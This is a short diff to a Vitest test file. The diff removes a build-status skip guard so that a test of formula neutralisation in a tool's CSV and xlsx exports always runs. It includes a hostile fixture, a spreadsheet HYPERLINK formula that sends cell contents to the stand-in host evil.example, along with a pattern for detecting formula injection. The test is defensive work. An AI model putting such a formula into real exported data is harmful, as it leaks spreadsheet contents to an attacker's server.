@@ -9,7 +9,7 @@ import path from "node:path";
 import { parse } from "csv-parse/sync";
 import ExcelJS from "exceljs";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
-import { BUILT, runBin } from "../corpus/run-netsp-bin.js";
+import { runBin } from "../corpus/run-netsp-bin.js";
 
 const FORMULA_START = /^[=+\-@\t\r]/;
 const HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"click")';
@@ -47,7 +47,7 @@ function hostileStudy(): string {
   return dir;
 }
 
-describe.skipIf(!BUILT)("formulas from the input are neutralised in analyse's CSV and xlsx outputs", () => {
+describe("formulas from the input are neutralised in analyse's CSV and xlsx outputs", () => {
   let out: string;
   beforeAll(() => {
     const study = hostileStudy();
